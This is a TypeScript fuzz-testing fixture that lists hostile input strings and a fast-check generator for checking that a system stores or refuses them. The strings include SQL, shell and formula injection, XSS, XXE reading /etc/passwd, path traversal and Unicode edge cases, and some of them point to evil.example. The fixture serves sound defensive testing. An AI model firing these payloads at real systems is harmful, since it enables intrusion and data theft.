// Texts that have broken other programs: injections, texts that resemble other types, Unicode at its edges.
import * as fc from 'fast-check';

const between = (first: number, last: number): string =>
  Array.from({ length: last - first + 1 }, (_, n) => String.fromCodePoint(first + n)).join('');

/** Each must be stored unchanged, or refused. */
export const HOSTILE_TEXTS: readonly string[] = [
  // SQL, shell, paths, headers, formulas.
  "'; DROP TABLE patients; --",
  "' OR '1'='1",
  '1; SELECT pg_sleep(10)',
  'Robert\\"); --',
  '$1 $2 ${jndi:ldap://x/a} {{7*7}} #{7*7} <%= 7*7 %>',
  '%s%n%x %00 %2e%2e%2f',
  '../../../etc/passwd',
  'C:\\Windows\\system32',
  '$(reboot) `reboot` | reboot',
  'a\r\nSet-Cookie: x=1\r\n\r\n<html>',
  '=HYPERLINK("http://evil.example","x")',
  "+1+cmd|' /C calc'!A0",
  '%_\\%\\_*?',
  // HTML and scripts.
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "javascript:alert('x')",
  '<svg/onload=alert(1)>',
  '</textarea></title><base href=//evil.example>',
  '&lt;b&gt; &#0; &amp;amp; <!-- --> ]]>',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  // Texts that resemble another type.
  'null',
  'undefined',
  'true',
  'NaN',
  '-0',
  '1e999',
  '12,5',
  '0x10',
  '[]',
  '{"a":1}',
  '"',
  '\\',
  '\\u0000',
  '__proto__',
  'constructor',
  'toString',
  '2020-02-30',
  '0000-00-00',
  '9999-12-31',
  '24:60',
  '00000000-0000-0000-0000-000000000000',
  // Blanks and controls.
  '',
  ' ',
  '\t\n\r\v\f',
  '\u00a0\u1680\u2003\u202f\u3000\ufeff',
  '  a  b  ',
  'a\u2028b\u2029c\u0085d',
  '\0',
  'a\0b',
  between(0x01, 0x1f),
  between(0x7f, 0x9f),
  '\u001b[31mrojo\u001b[0m\u0007\b',
  // Unicode at its edges.
  '\ud800',
  'a\udc00',
  '\udc00\ud800',
  '\ufffd\ufffe\uffff\u{10ffff}\u{1fffe}',
  'e\u0301 \u00e9 \u1e9b\u0323',
  `Z${'\u0300\u0315\u0489'.repeat(40)}`,
  '👩‍👩‍👧‍👦🏳️‍🌈🦷👍🏽',
  '\u202eotxet\u202c \u2066x\u2069 \u200b\u200c\u200d\u2060',
  'שלום مرحبا 你好 नमस्ते ﷽',
  'İIıi ßẞ ﬁ ǅ Kelvin\u212a',
  '\ue000\u{f0000}\u{e0041}',
  'ｆｕｌｌ　ｗｉｄｔｈ',
  '\u{1d49c}'.repeat(100),
  'ñ'.repeat(19_999),
  'a'.repeat(20_001),
];

/** Any of them, or any other string, of whole characters or with lone surrogates. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_TEXTS.filter((text) => text.length < 20_000)) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 300 }) },
);

/** Without lone surrogates, which cannot be part of an address. */
export const wellFormed = (text: string): string => text.replaceAll(/\p{Surrogate}/gu, '?');
